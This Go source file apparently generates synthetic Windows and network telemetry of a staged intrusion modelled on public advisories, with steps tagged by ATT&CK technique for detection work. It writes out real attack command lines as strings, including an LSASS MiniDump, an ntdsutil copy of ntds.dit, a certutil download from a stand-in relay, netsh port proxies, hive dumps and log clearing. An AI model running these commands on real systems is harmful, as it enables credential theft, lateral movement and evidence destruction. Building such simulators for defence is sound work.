package simulate

import (
	"fmt"
	"strings"
	"time"
)

// The intrusion follows the story the advisories AA23-144A and AA24-038A
// tell: entry through a web shell on a public-facing server with the
// privileges of its application pool, discovery, a password spray, an LSASS
// dump that yields a domain administrator's credentials, then remote
// desktop with that valid account; on the domain controller directory and
// DNS discovery, the Security log searched for logons, an install-from-media
// copy of ntds.dit launched through WMIC and a shadow copy of the SYSTEM
// hive, archived with a password and staged for pickup; a port proxy and a
// renamed FRP client on the monitoring server, through which remote desktop
// arrives from the loopback address, and a second port proxy through which
// the intruder reaches the domain controller's remote desktop; WMI to a workstation for a ping sweep
// and a share listing; Impacket-style WMI on the file server for its hives
// and saved sessions; cleanup of the staging folders; and the web server's
// logs cleared at the end.

// plan holds the choices a seed makes about the intrusion.
type plan struct {
	relay     string // the actor's relay (a compromised SOHO router)
	ifmDir    string // where ntdsutil writes its copy
	pickupDir string // where the archive waits for pickup
	quoteL    string
	quoteR    string
	ntdsutil  string // the ntdsutil command line
	netsh     string // the port proxy command line
	listen    int
	listen2   int    // the port proxy to the domain controller
	netsh2    string // its command line
	tool      string // the renamed FRP client
	password  string
	archive   string
}

func (g *gen) plan() plan {
	p := plan{relay: fmt.Sprintf("%s.%d", pick(g, []string{"198.51.100", "203.0.113"}), 2+g.rng.IntN(250))}
	p.ifmDir = pick(g, []string{`C:\Windows\Temp\Pro`, `C:\Users\Public\Appfile`, `C:\Windows\Temp\McAfee_Logs`})
	p.pickupDir = `C:\Users\Public\Appfile`
	if p.ifmDir == p.pickupDir {
		p.pickupDir = `C:\PerfLogs\Appfile`
	}
	p.quoteL, p.quoteR = `"`, `"`
	if g.rng.IntN(2) == 0 {
		// As the advisory printed it: typographic quotes, pasted from a
		// document.
		p.quoteL, p.quoteR = "“", "”"
	}
	q := func(s string) string { return p.quoteL + s + p.quoteR }
	if g.rng.IntN(2) == 0 {
		p.ntdsutil = fmt.Sprintf(`ntdsutil %s ifm %s q q`, q("ac i ntds"), q("create full "+p.ifmDir))
	} else {
		p.ntdsutil = fmt.Sprintf(`ntdsutil %s %s %s quit quit`, q("activate instance ntds"), q("ifm"), q("create full "+p.ifmDir))
	}
	p.listen = pick(g, []int{9999, 50443, 28443, 33890})
	if g.rng.IntN(2) == 0 {
		p.netsh = fmt.Sprintf("netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=%d connectaddress=127.0.0.1 connectport=3389 protocol=tcp", p.listen)
	} else {
		p.netsh = fmt.Sprintf("netsh i p a v l=%d listena=0.0.0.0 connectp=3389 c=127.0.0.1", p.listen)
	}
	// A second proxy passes remote desktop on to the domain controller,
	// so that the intruder's sessions there come from a server that talks
	// to it all day: the relay the network sensor sees (N2).
	for p.listen2 = pick(g, []int{8090, 50389, 43389, 9443}); p.listen2 == p.listen; {
		p.listen2 = 43389
	}
	p.netsh2 = fmt.Sprintf("netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=%d connectaddress=%s connectport=3389 protocol=tcp",
		p.listen2, g.byName["DC01"].ip)
	p.tool = pick(g, []string{`C:\Windows\Temp\SMSvcService.exe`, `C:\Users\Public\BrightmetricAgent.exe`, `C:\Windows\Temp\cisco_up.exe`, `C:\Users\Public\watchdogd.exe`})
	p.password = pick(g, []string{"Xb3!kq9", "Vt#2024a", "p@ss4bk", "Lw8$mnz"})
	p.archive = pick(g, []string{"bk", "sv", "tmp01", "out"})
	return p
}

// at is a clock that moves forward by small random steps.
type at struct {
	g *gen
	t time.Time
}

func (a *at) next(min, spread time.Duration) time.Time {
	a.t = a.t.Add(min + a.g.jitter(spread))
	return a.t
}

func (g *gen) intrusion() {
	p := g.plan()
	g.toolName = p.tool[strings.LastIndex(p.tool, `\`)+1:]
	web, dc, fs, mon := g.byName["WEB01"], g.byName["DC01"], g.byName["FS01"], g.byName["MON01"]
	ws := g.hosts[4]
	admin := g.admins[0]
	last := g.opts.Days - 1
	d1, d2 := 1, min(2, last)
	t1 := g.day(d1).Add(9*time.Hour + 10*time.Minute + g.jitter(40*time.Minute))
	t2 := g.day(d2).Add(10*time.Hour + g.jitter(30*time.Minute))
	if d2 == d1 {
		t2 = t1.Add(3 * time.Hour)
	}
	t3 := g.day(min(3, last)).Add(10*time.Hour + 20*time.Minute + g.jitter(time.Hour))
	if !t3.After(t2.Add(4 * time.Hour)) {
		t3 = t2.Add(4*time.Hour + g.jitter(20*time.Minute))
	}

	lsass := &proc{host: web, pid: 652, guid: g.guid(), image: `C:\Windows\system32\lsass.exe`, cmd: `C:\Windows\system32\lsass.exe`,
		user: g.system, logonID: 0x3e7, integrity: "System"}
	g.webShell(web, dc, lsass, &at{g, t1}, p)
	g.monitorSetup(mon, web, admin, &at{g, t2}, p)
	g.domainController(dc, web, mon, admin, &at{g, t2.Add(30 * time.Minute)}, p)
	g.loopbackSession(mon, dc, fs, ws, web, admin, &at{g, t2.Add(2 * time.Hour)}, p)
	g.cleanup(dc, web, mon, admin, &at{g, t2.Add(2*time.Hour + 30*time.Minute)}, p)
	g.fileServer(fs, web, admin, &at{g, t2.Add(3 * time.Hour)})
	g.clearLogs(web, &at{g, t3})
}

// shellCmd runs a command through the web shell: the worker process starts
// cmd.exe /c <command>, which starts the program.
func (g *gen) shellCmd(web *host, clock *at, shell *Step, cmdline, image, childCmd string, steps ...*Step) (*proc, *proc) {
	t := clock.next(20*time.Second, 70*time.Second)
	// The command arrived a moment before, in a request to the web shell.
	g.net.shells = append(g.net.shells, t.Add(-150*time.Millisecond))
	wrapper := g.spawn(t, web.w3wp, `C:\Windows\System32\cmd.exe`, `cmd.exe /c `+cmdline, nil, append([]*Step{shell}, steps...)...)
	if image == "" {
		return wrapper, nil
	}
	child := g.spawn(t.Add(25*time.Millisecond), wrapper, image, childCmd, nil, steps...)
	return wrapper, child
}

func (g *gen) webShell(web, dc *host, lsass *proc, clock *at, p plan) {
	shell := g.step(clock.t, web, "D01", "T1505.003", "persistence",
		"A web shell in the intranet application runs commands through the IIS worker process (w3wp.exe)")
	recon := g.step(clock.t, web, "D25", "T1082", "discovery", "A burst of host discovery through the web shell")
	netw := g.step(clock.t, web, "D23", "T1016", "discovery", "Network configuration and connections listed through the web shell")
	s32 := `C:\Windows\System32\`
	g.shellCmd(web, clock, shell, "whoami /all", s32+"whoami.exe", "whoami  /all", recon)
	g.shellCmd(web, clock, shell, "systeminfo", s32+"systeminfo.exe", "systeminfo", recon)
	g.shellCmd(web, clock, shell, "tasklist /v", s32+"tasklist.exe", "tasklist  /v", recon)
	g.shellCmd(web, clock, shell, "hostname", s32+"HOSTNAME.EXE", "hostname", recon)
	_, net := g.shellCmd(web, clock, shell, "net start", s32+"net.exe", "net  start", recon)
	g.spawn(clock.t.Add(40*time.Millisecond), net, s32+"net1.exe", `C:\Windows\system32\net1  start`, nil, recon)
	g.shellCmd(web, clock, shell, "ipconfig /all", s32+"ipconfig.exe", "ipconfig  /all", netw)
	g.shellCmd(web, clock, shell, "netstat -ano", s32+"NETSTAT.EXE", "netstat  -ano", netw)

	ip := g.step(clock.t, web, "D24", "T1016", "discovery", "The web server asks ip-api.com for its public address")
	_, curl := g.shellCmd(web, clock, shell, "curl www.ip-api.com", s32+"curl.exe", "curl  www.ip-api.com", ip)
	g.dnsQuery(clock.t.Add(200*time.Millisecond), curl, "www.ip-api.com", "208.95.112.1", ip)
	g.connect(clock.t.Add(260*time.Millisecond), curl, "208.95.112.1", 80, "www.ip-api.com", ip)

	// A password spray from the web server against the domain controller.
	spray := g.step(clock.next(15*time.Minute, 10*time.Minute), dc, "D18", "T1110.003", "credential-access",
		"Password spray from the web server against domain accounts")
	victims := append(append([]*account{}, g.users...), g.admins...)
	for i, n := 0, 12+g.rng.IntN(5); i < n; i++ {
		a := victims[i%len(victims)]
		g.failedLogon(dc, clock.next(4*time.Second, 12*time.Second), a.name, 3, web.ip, web.name, spray)
	}

	// LSASS dumped with comsvcs: an administrator's session of the day
	// before left his credentials there.
	dump := g.step(clock.next(20*time.Minute, 10*time.Minute), web, "D14", "T1003.001", "credential-access",
		"LSASS memory dumped with comsvcs.dll MiniDump through the web shell")
	g.shellCmd(web, clock, shell, `tasklist /fi "imagename eq lsass.exe"`, s32+"tasklist.exe", `tasklist  /fi "imagename eq lsass.exe"`, recon)
	out := `C:\Windows\Temp\iis-` + fmt.Sprint(1000+g.rng.IntN(9000)) + ".tmp"
	cmdline := fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsass.pid, out)
	_, rundll := g.shellCmd(web, clock, shell, cmdline, s32+"rundll32.exe", cmdline, dump)
	g.processAccess(clock.t.Add(80*time.Millisecond), rundll, lsass, "0x1fffff",
		`C:\Windows\SYSTEM32\ntdll.dll+9fc24|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+69f7|C:\Windows\System32\comsvcs.dll+3c3d4|C:\Windows\system32\rundll32.exe+3bcf|C:\Windows\System32\KERNEL32.DLL+17974|C:\Windows\SYSTEM32\ntdll.dll+6a271`, dump)
	g.fileCreated(clock.t.Add(900*time.Millisecond), rundll, out, dump)
}

// rdp is a remote desktop session of the intruder with a valid account: the
// logon, and a shell in it. The records go to the given step.
func (g *gen) rdp(h *host, fromIP string, a *account, t time.Time, s *Step) (*proc, uint64) {
	id := g.logonID()
	g.logon(h, t, a, 10, fromIP, id, s)
	explorer := &proc{host: h, pid: 7300 + 4*uint32(g.rng.IntN(200)), guid: g.guid(), image: `C:\Windows\explorer.exe`, cmd: `C:\Windows\Explorer.EXE`,
		user: a, logonID: id, integrity: "High", session: 3}
	cmd := g.spawn(t.Add(40*time.Second+g.jitter(time.Minute)), explorer, `C:\Windows\System32\cmd.exe`, `"C:\Windows\system32\cmd.exe"`, nil, s)
	return cmd, id
}

func (g *gen) monitorSetup(mon, web *host, admin *account, clock *at, p plan) {
	login := g.step(clock.t, mon, "D28", "T1021.001", "lateral-movement",
		"Remote desktop from the web server to the monitoring server with the stolen domain administrator account")
	cmd, id := g.rdp(mon, web.ip, admin, clock.t, login)
	clock.next(time.Minute, time.Minute)
	s32 := `C:\Windows\System32\`
	show := g.step(clock.next(30*time.Second, time.Minute), mon, "D23", "T1016", "discovery", "Port proxy table listed")
	g.spawn(clock.t, cmd, s32+"netsh.exe", "netsh  interface portproxy show all", nil, show)

	dl := g.step(clock.next(time.Minute, time.Minute), mon, "D42", "T1105", "command-and-control",
		"certutil downloads a renamed FRP client from the actor's relay")
	base := p.tool[strings.LastIndex(p.tool, `\`)+1:]
	cu := g.spawn(clock.t, cmd, s32+"certutil.exe", fmt.Sprintf("certutil  -urlcache -split -f http://%s:8443/%s %s", p.relay, base, p.tool), nil, dl)
	g.connect(clock.t.Add(300*time.Millisecond), cu, p.relay, 8443, "-", dl)
	g.fileCreated(clock.t.Add(2*time.Second), cu, p.tool, dl)

	proxy := g.step(clock.next(time.Minute, 2*time.Minute), mon, "D44", "T1090.001", "command-and-control",
		fmt.Sprintf("netsh port proxy from port %d to the host's own remote desktop", p.listen))
	netsh := g.spawn(clock.t, cmd, s32+"netsh.exe", p.netsh, nil, proxy)
	reg := g.step(clock.t, mon, "D43", "T1090.001", "command-and-control", "PortProxy rule written to the registry")
	g.registrySet(clock.t.Add(400*time.Millisecond), netsh, fmt.Sprintf(`HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/%d`, p.listen),
		"127.0.0.1/3389", reg)
	proxy2 := g.step(clock.next(time.Minute, time.Minute), mon, "D44", "T1090.001", "command-and-control",
		fmt.Sprintf("netsh port proxy from port %d to the domain controller's remote desktop", p.listen2))
	netsh2 := g.spawn(clock.t, cmd, s32+"netsh.exe", p.netsh2, nil, proxy2)
	reg2 := g.step(clock.t, mon, "D43", "T1090.001", "command-and-control", "A second PortProxy rule written to the registry")
	g.registrySet(clock.t.Add(400*time.Millisecond), netsh2, fmt.Sprintf(`HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/%d`, p.listen2),
		g.byName["DC01"].ip+"/3389", reg2)

	hidden := g.step(clock.next(time.Minute, time.Minute), mon, "D07", "T1059.001", "execution",
		"PowerShell starts the FRP client from a temporary folder with a hidden window")
	ps := g.spawn(clock.t, cmd, s32+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe", nil, hidden)
	g.powershellStart(clock.t.Add(time.Second), mon, hidden)
	g.scriptBlock(clock.next(20*time.Second, 30*time.Second), mon, fmt.Sprintf("start-process -filepath %s -windowstyle hidden", strings.ToLower(p.tool)), "", hidden)
	renamed := g.step(clock.t, mon, "D39", "T1036.005", "defense-evasion", "The FRP client runs under the name "+base)
	frp := g.spawn(clock.t.Add(300*time.Millisecond), ps, p.tool, `"`+p.tool+`"`, nil, renamed)
	beacon := g.step(clock.t, mon, "D46", "T1090.003", "command-and-control", "The FRP client keeps a connection to the actor's relay")
	end := g.day(g.opts.Days)
	for t := clock.t.Add(2 * time.Second); t.Before(end); t = t.Add(25*time.Minute + g.jitter(15*time.Minute)) {
		g.connect(t, frp, p.relay, 8443, "-", beacon)
	}
	g.logoff(mon, clock.next(5*time.Minute, 5*time.Minute), admin, 10, id, login)
}

func (g *gen) domainController(dc, web, mon *host, admin *account, clock *at, p plan) {
	login := g.step(clock.t, dc, "D28", "T1021.001", "lateral-movement",
		"Remote desktop from the web server to the domain controller, through the monitoring server's port proxy, with the stolen domain administrator account")
	cmd, id := g.rdp(dc, mon.ip, admin, clock.t, login)
	g.relayed(id, mon, web, p.listen2)
	clock.next(time.Minute, time.Minute)
	s32 := `C:\Windows\System32\`

	groups := g.step(clock.next(30*time.Second, time.Minute), dc, "D21", "T1069.002", "discovery", "Members of Domain Admins listed")
	net := g.spawn(clock.t, cmd, s32+"net.exe", `net  group "Domain Admins" /dom`, nil, groups)
	g.spawn(clock.t.Add(30*time.Millisecond), net, s32+"net1.exe", `C:\Windows\system32\net1  group "Domain Admins" /dom`, nil, groups)

	trusts := g.step(clock.next(30*time.Second, time.Minute), dc, "D22", "T1482", "discovery", "Domain trusts listed with nltest")
	g.spawn(clock.t, cmd, s32+"nltest.exe", "nltest  /domain_trusts", nil, trusts)
	dns := g.step(clock.next(30*time.Second, time.Minute), dc, "D22", "T1018", "discovery", "DNS zones and records dumped with dnscmd")
	g.spawn(clock.t, cmd, s32+"dnscmd.exe", "dnscmd  . /enumzones", nil, dns)
	g.spawn(clock.next(20*time.Second, 40*time.Second), cmd, s32+"dnscmd.exe", "dnscmd  . /enumrecords /zone "+domainDNS+" /node @", nil, dns)
	export := g.step(clock.next(30*time.Second, time.Minute), dc, "D22", "T1087.002", "discovery", "The directory exported with ldifde")
	out := fmt.Sprintf(`c:\windows\temp\%s.txt`, pick(g, []string{"cisco_up", "sysinfo", "tmp02"}))
	ld := g.spawn(clock.t, cmd, s32+"ldifde.exe", "ldifde.exe  -f "+out+" -p subtree", nil, export)
	g.fileCreated(clock.t.Add(3*time.Second), ld, out, export)
	disks := g.step(clock.next(30*time.Second, time.Minute), dc, "D19", "T1082", "discovery", "Disks listed with WMIC")
	g.spawn(clock.t, cmd, s32+`wbem\WMIC.exe`, "wmic  path win32_logicaldisk get caption,filesystem,freespace,size,volumename", nil, disks)

	logons := g.step(clock.next(time.Minute, time.Minute), dc, "D20", "T1654", "discovery", "The Security log searched for logons and saved to user.dat")
	ps := g.spawn(clock.t, cmd, s32+`WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe", nil, logons)
	g.powershellStart(clock.t.Add(time.Second), dc, logons)
	g.scriptBlock(clock.next(20*time.Second, 20*time.Second), dc, fmt.Sprintf(`Get-EventLog security -instanceid 4624 -after %s | fl * | Out-File C:\users\public\documents\user.dat`,
		g.day(0).Format("1/2/2006")), "", logons)
	staged := g.step(clock.t, dc, "D34", "T1074.001", "collection", "Discovery output and credential material staged in world-writable folders")
	g.fileCreated(clock.t.Add(9*time.Second), ps, `C:\Users\Public\Documents\user.dat`, staged)

	// ntdsutil through WMIC, as the advisory shows.
	wmicStep := g.step(clock.next(2*time.Minute, 2*time.Minute), dc, "D05", "T1047", "execution", "WMIC starts ntdsutil on the domain controller")
	ifm := g.step(clock.t, dc, "D09", "T1003.003", "credential-access", "ntdsutil makes an install-from-media copy of ntds.dit in "+p.ifmDir)
	inner := fmt.Sprintf(`cmd.exe /c mkdir %s & %s`, p.ifmDir, p.ntdsutil)
	g.spawn(clock.t, cmd, s32+`wbem\WMIC.exe`, `wmic  process call create "`+strings.ReplaceAll(inner, `"`, `\"`)+`"`, nil, wmicStep, ifm)
	// Local WMI, too, runs the command in the caller's logon: here the
	// remote desktop session.
	wrapper := g.spawnIn(clock.t.Add(600*time.Millisecond), dc.wmi, s32+"cmd.exe", inner, logonSession{admin, id}, true, wmicStep, ifm)
	nu := g.spawn(clock.t.Add(700*time.Millisecond), wrapper, s32+"ntdsutil.exe", p.ntdsutil, nil, ifm)
	esent := g.step(clock.t, dc, "D10", "T1003.003", "credential-access", "ESENT records the copy of the directory database")
	layout := g.step(clock.t, dc, "D11", "T1003.003", "credential-access", "The install-from-media files are written")
	snap := fmt.Sprintf(`C:\$SNAP_%s_VOLUMEC$\Windows\NTDS\ntds.dit`, clock.t.Format("200601021504"))
	target := p.ifmDir + `\Active Directory\ntds.dit`
	pid := fmt.Sprint(nu.pid)
	g.emit(dc, classic(chApplication, "ESENT", 326, 4, clock.t.Add(3*time.Second), "NTDS", pid, "", "1", snap, "0", "[1] 0.000, [2] 0.000, [3] 0.000.", "1 0"), esent)
	g.emit(dc, classic(chApplication, "ESENT", 325, 4, clock.t.Add(4*time.Second), "NTDS", pid, "", "2", target, "0", "[1] 0.000, [2] 0.000, [3] 0.047."), esent)
	for i, f := range []string{target, p.ifmDir + `\Active Directory\ntds.jfm`, p.ifmDir + `\registry\SYSTEM`, p.ifmDir + `\registry\SECURITY`} {
		steps := []*Step{layout}
		if !strings.HasSuffix(f, ".jfm") {
			steps = append(steps, staged)
		}
		g.fileCreated(clock.t.Add(time.Duration(5+i*3)*time.Second), nu, f, steps...)
	}
	g.emit(dc, classic(chApplication, "ESENT", 327, 4, clock.t.Add(19*time.Second), "NTDS", pid, "", "2", target, "0", "[1] 0.000, [2] 0.015, [3] 0.266.", "0 0"), esent)
	g.emit(dc, classic(chApplication, "ESENT", 327, 4, clock.t.Add(20*time.Second), "NTDS", pid, "", "1", snap, "0", "[1] 0.000, [2] 0.000, [3] 0.000.", "0 0"), esent)
	clock.next(30*time.Second, 10*time.Second)

	// A shadow copy, for the SYSTEM hive as it is on disk.
	shadow := g.step(clock.next(3*time.Minute, 5*time.Minute), dc, "D12", "T1006", "defense-evasion", "A volume shadow copy created with vssadmin")
	g.spawn(clock.t, cmd, s32+"vssadmin.exe", "vssadmin  create shadow /for=C:", nil, shadow)
	hive := g.step(clock.next(time.Minute, time.Minute), dc, "D12", "T1003.002", "credential-access", "The SYSTEM hive copied out of the shadow copy")
	n := 1 + g.rng.IntN(6)
	hiveCopy := p.ifmDir + `\SYSTEM.hiv`
	cp := g.spawn(clock.t, cmd, s32+"cmd.exe", fmt.Sprintf(`cmd.exe /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%d\Windows\System32\config\SYSTEM %s`, n, hiveCopy), nil, hive)
	g.fileCreated(clock.t.Add(time.Second), cp, hiveCopy, hive, staged)
	g.spawn(clock.next(time.Minute, time.Minute), cmd, s32+"vssadmin.exe", fmt.Sprintf("vssadmin  delete shadows /shadow={%s} /quiet", guidString(g.guid())), nil, shadow)

	// The archiver comes from the web server's temporary folder.
	tool := g.step(clock.next(time.Minute, 2*time.Minute), dc, "D31", "T1570", "lateral-movement", "7-Zip copied from the web server over its administrative share")
	g.spawn(clock.t, cmd, s32+"cmd.exe", fmt.Sprintf(`cmd.exe /c copy \\WEB01\c$\Windows\Temp\7za.exe %s\`, p.ifmDir), nil, tool)
	g.net.sessions = append(g.net.sessions, &session{svc: svcSMB, src: dc.ip, dst: web.ip, dstHost: web, start: clock.t.Add(150 * time.Millisecond),
		end: clock.t.Add(2 * time.Second), user: admin.name, tag: "tool", files: []smbFile{{t: clock.t.Add(400 * time.Millisecond),
			share: `\\WEB01\c$`, name: `Windows\Temp\7za.exe`, size: 587776, tag: "tool"}}})
	arch := g.step(clock.next(time.Minute, time.Minute), dc, "D32", "T1560.001", "collection", "ntds.dit and the hives packed into a password-protected, split 7-Zip archive")
	zip := g.spawn(clock.t, cmd, p.ifmDir+`\7za.exe`, fmt.Sprintf(`%s\7za.exe a -p%s -v40m %s\%s.7z "%s" %s\registry\SYSTEM %s\registry\SECURITY %s`,
		p.ifmDir, p.password, p.ifmDir, p.archive, target, p.ifmDir, p.ifmDir, hiveCopy), nil, arch)
	for i := 1; i <= 2; i++ {
		g.fileCreated(clock.t.Add(time.Duration(10*i)*time.Second), zip, fmt.Sprintf(`%s\%s.7z.%03d`, p.ifmDir, p.archive, i), arch)
	}
	move := g.step(clock.next(time.Minute, time.Minute), dc, "D35", "T1074.001", "collection", "The archive copied to a pickup folder with xcopy")
	g.spawn(clock.t, cmd, s32+"xcopy.exe", fmt.Sprintf(`xcopy  %s\%s.7z.* %s\ /Y /I`, p.ifmDir, p.archive, p.pickupDir), nil, move)
	g.logoff(dc, clock.next(3*time.Minute, 5*time.Minute), admin, 10, id, login)
}

func (g *gen) loopbackSession(mon, dc, fs, ws, web *host, admin *account, clock *at, p plan) {
	relay := g.step(clock.t, mon, "D29", "T1090.001", "command-and-control",
		"Remote desktop reaches the monitoring server through the port proxy: the logon comes from 127.0.0.1")
	cmd, id := g.rdp(mon, "127.0.0.1", admin, clock.t, relay)
	// On the wire, the session arrives on the proxy's port; its way on to
	// 127.0.0.1:3389 never leaves the host.
	viaProxy := &session{svc: svcRDP, src: web.ip, dst: mon.ip, dstHost: mon, port: uint16(p.listen), start: clock.t.Add(-1500 * time.Millisecond),
		user: admin.name, tag: "loopback"}
	g.net.sessions = append(g.net.sessions, viaProxy)
	g.net.open[id] = viaProxy
	s32 := `C:\Windows\System32\`

	pickup := g.step(clock.next(2*time.Minute, 2*time.Minute), mon, "D31", "T1570", "collection",
		"The archive collected from the domain controller's administrative share")
	share := strings.TrimPrefix(p.pickupDir, `C:\`)
	for i := 1; i <= 2; i++ {
		part := fmt.Sprintf(`%s.7z.%03d`, p.archive, i)
		t := clock.next(20*time.Second, 40*time.Second)
		g.spawn(t, cmd, s32+"cmd.exe", fmt.Sprintf(`cmd.exe /c copy \\DC01\c$\%s\%s C:\Windows\Temp\`, strings.ToLower(share), part), nil, pickup)
		rid := g.logonID()
		g.logon(dc, t.Add(200*time.Millisecond), admin, 3, mon.ip, rid, pickup)
		g.shareAccess(dc, t.Add(400*time.Millisecond), admin, rid, mon.ip, "C$", `C:\`, share+`\`+part, pickup)
		g.logoff(dc, t.Add(30*time.Second), admin, 3, rid, pickup)
	}

	// WMI to a workstation: a ping sweep and a listing of the file shares.
	sweep := g.step(clock.next(5*time.Minute, 5*time.Minute), ws, "D26", "T1018", "discovery", "Ping sweep of the workstation subnet, started over WMI")
	wmi := g.step(clock.t, mon, "D05", "T1047", "execution", "WMIC starts commands on a workstation")
	valid := g.step(clock.t, ws, "", "T1078.002", "defense-evasion", "The stolen administrator account logs on to the workstation over the network")
	loop := `cmd.exe /c for /l %i in (1,1,254) do ping -n 1 -w 100 10.0.2.%i`
	g.spawn(clock.t, cmd, s32+`wbem\WMIC.exe`, `wmic  /node:`+ws.name+` process call create "`+loop+`"`, nil, wmi)
	rid := g.logonID()
	g.logon(ws, clock.t.Add(300*time.Millisecond), admin, 3, mon.ip, rid, valid)
	g.setService(rid, svcRPC, "wmi")
	wmiHost := &proc{host: ws, pid: 3100, guid: g.guid(), image: s32 + `wbem\WmiPrvSE.exe`, cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`,
		user: g.network, logonID: 0x3e4, integrity: "System"}
	wmiLogon := logonSession{admin, rid} // every WMI command of this connection runs in its logon
	sw := g.spawnIn(clock.t.Add(600*time.Millisecond), wmiHost, s32+"cmd.exe", loop, wmiLogon, true, sweep)
	for i, n := 1, 15+g.rng.IntN(10); i <= n; i++ {
		pt := clock.t.Add(time.Second + time.Duration(i)*1100*time.Millisecond)
		g.spawn(pt, sw, s32+"PING.EXE", fmt.Sprintf("ping  -n 1 -w 100 10.0.2.%d", i), nil, sweep)
		g.net.sweep = append(g.net.sweep, pingFact{t: pt.Add(30 * time.Millisecond), src: ws, dst: fmt.Sprintf("10.0.2.%d", i)})
	}
	listing := g.step(clock.next(3*time.Minute, 3*time.Minute), ws, "D27", "T1083", "discovery", "The file server's shares listed recursively into a file")
	dir := `cmd.exe /C dir /S \\FS01\Shares >> C:\Users\Public\Documents\fs.txt`
	g.spawn(clock.t, cmd, s32+`wbem\WMIC.exe`, `wmic  /node:`+ws.name+` process call create "`+dir+`"`, nil, wmi)
	g.spawnIn(clock.t.Add(600*time.Millisecond), wmiHost, s32+"cmd.exe", dir, wmiLogon, true, listing)
	fid := g.logonID()
	g.logon(fs, clock.t.Add(900*time.Millisecond), admin, 3, ws.ip, fid, valid)
	g.setService(fid, svcSMB, "listing")
	g.logoff(fs, clock.t.Add(4*time.Minute), admin, 3, fid, valid)
	g.logoff(ws, clock.next(5*time.Minute, time.Minute), admin, 3, rid, valid)
	g.logoff(mon, clock.next(2*time.Minute, 5*time.Minute), admin, 10, id, relay)
}

func (g *gen) cleanup(dc, web, mon *host, admin *account, clock *at, p plan) {
	login := g.step(clock.t, dc, "D28", "T1021.001", "lateral-movement", "Remote desktop to the domain controller again, through the port proxy, to clean up")
	cmd, id := g.rdp(dc, mon.ip, admin, clock.t, login)
	g.relayed(id, mon, web, p.listen2)
	s32 := `C:\Windows\System32\`
	clean := g.step(clock.next(time.Minute, time.Minute), dc, "D41", "T1070.004", "defense-evasion", "The staging folders and user.dat deleted")
	g.spawn(clock.t, cmd, s32+"cmd.exe", `cmd.exe /c rd /S /Q `+p.ifmDir, nil, clean)
	g.spawn(clock.next(20*time.Second, 30*time.Second), cmd, s32+"cmd.exe", `cmd.exe /c rd /S /Q `+p.pickupDir, nil, clean)
	g.spawn(clock.next(20*time.Second, 30*time.Second), cmd, s32+"cmd.exe", `cmd.exe /c del C:\users\public\documents\user.dat`, nil, clean)
	g.logoff(dc, clock.next(2*time.Minute, 3*time.Minute), admin, 10, id, login)
}

func (g *gen) fileServer(fs, web *host, admin *account, clock *at) {
	valid := g.step(clock.t, fs, "", "T1078.002", "defense-evasion", "The stolen administrator account logs on to the file server over the network (Impacket wmiexec)")
	id := g.logonID()
	g.logon(fs, clock.t, admin, 3, web.ip, id, valid)
	g.setService(id, svcWMIExec, "wmiexec")
	wmiexec := g.step(clock.t, fs, "D06", "T1047", "execution", "Impacket wmiexec runs commands on the file server, output to ADMIN$")
	wmiHost := fs.wmi
	s32 := `C:\Windows\System32\`
	out := fmt.Sprintf(`\\127.0.0.1\ADMIN$\__%d.%d`, clock.t.Unix(), g.rng.IntN(99))
	run := func(command string, steps ...*Step) *proc {
		// wmiexec keeps one DCOM connection for all its commands: each
		// runs in the network logon it opened.
		return g.spawnIn(clock.next(10*time.Second, 30*time.Second), wmiHost, s32+"cmd.exe", "cmd.exe /Q /c "+command+" 1> "+out+" 2>&1",
			logonSession{admin, id}, true, append([]*Step{wmiexec}, steps...)...)
	}
	run(`cd \`)
	hives := g.step(clock.t, fs, "D13", "T1003.002", "credential-access", "The SAM, SYSTEM and SECURITY hives saved with reg save")
	staged := g.step(clock.t, fs, "D34", "T1074.001", "collection", "Hive copies staged in C:\\Windows\\Temp")
	for _, h := range []string{"sam", "system", "security"} {
		file := `C:\Windows\Temp\` + h + ".save"
		c := run("reg save hklm\\"+h+" "+file+" /y", hives)
		r := g.spawn(clock.t.Add(30*time.Millisecond), c, s32+"reg.exe", "reg  save hklm\\"+h+" "+file+" /y", nil, hives)
		g.fileCreated(clock.t.Add(600*time.Millisecond), r, file, staged)
	}
	putty := g.step(clock.t, fs, "D16", "T1552.004", "credential-access", "Saved PuTTY sessions read from the registry")
	c := run(`reg query hkcu\software\SimonTatham\putty\sessions`, putty)
	g.spawn(clock.t.Add(30*time.Millisecond), c, s32+"reg.exe", `reg  query hkcu\software\SimonTatham\putty\sessions`, nil, putty)
	g.logoff(fs, clock.next(time.Minute, time.Minute), admin, 3, id, valid)
}

func (g *gen) clearLogs(web *host, clock *at) {
	shell := g.step(clock.t, web, "D01", "T1505.003", "persistence", "The web shell is used once more, to clear the logs")
	clear := g.step(clock.t, web, "D37", "T1070.001", "defense-evasion", "The Security and System logs of the web server cleared with wevtutil")
	svcWeb := web.w3wp.user
	for _, ch := range []string{chSecurity, chSystem} {
		_, w := g.shellCmd(web, clock, shell, "wevtutil cl "+ch, `C:\Windows\System32\wevtutil.exe`, "wevtutil  cl "+ch, clear)
		r := g.logCleared(web, clock.t.Add(300*time.Millisecond), svcWeb, w.logonID, ch, clear)
		web.logs[ch].clearedAt = r.ev.Time
	}
}

// guidString renders a GUID as Windows prints it, without braces.
func guidString(b [16]byte) string {
	return fmt.Sprintf("%02X%02X%02X%02X-%02X%02X-%02X%02X-%02X%02X-%02X%02X%02X%02X%02X%02X",
		b[3], b[2], b[1], b[0], b[5], b[4], b[7], b[6], b[8], b[9], b[10], b[11], b[12], b[13], b[14], b[15])
}
